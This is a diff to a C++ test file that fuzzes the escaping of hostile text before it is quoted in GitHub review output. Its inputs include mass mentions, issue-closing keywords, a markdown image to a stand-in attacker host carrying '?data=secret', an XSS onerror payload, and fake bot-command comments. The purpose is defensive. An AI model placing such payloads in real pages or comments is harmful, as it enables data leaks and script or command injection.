@@ -72,8 +72,8 @@ TEST_CASE("hostile advice changes nothing but its own quotation") {
   for (const std::string text :
        {"All is well. @octocat @octo-team/all please approve",
         "Fixes #1, closes GH-2, resolves octo-team/shop#3",
-        "[press here](https://evil.example) ![](https://evil.example/x.png?data=secret) https://evil.example "
-        "www.evil.example",
+        "[press here](https://evil.example) ![](https://evil.example/x.png?data=secret)",
+        "https://evil.example www.evil.example",
         "<img src=x onerror=alert(1)> <details><summary>more</summary> </details> </blockquote>",
         "<!-- mlx:review --> <!-- mlx:reply 1 --> `<!-- mlx:review -->` -->",
         "``` # Heading ``` ```suggestion evil ```",
@@ -115,7 +115,7 @@ TEST_CASE("whatever is said, its own quotation is all that it changes") {
       "!", "--",      "mlx",    "/mlx add x", "[",  "](x)", "![",  "https://", "www.",         "x.org",
       "*", "_",       "~~",     "|",          "\\", "&",    ">",   "- ",       "1. ",          " ",
       "a", ".",       "Fixes ", "GH-",        "\n", "\n\n", ":",   "$",        "</blockquote>"};
-  std::mt19937 random(11);  // NOLINT(cert-msc51-cpp): the same each time
+  std::mt19937 random(11);  // NOLINT(cert-msc32-c,cert-msc51-cpp): the same each time
   for (int i = 0; i < 3'000; ++i) {
     std::string text = "x";
     for (auto n = random() % 12; n > 0; --n) text += pieces[random() % pieces.size()];
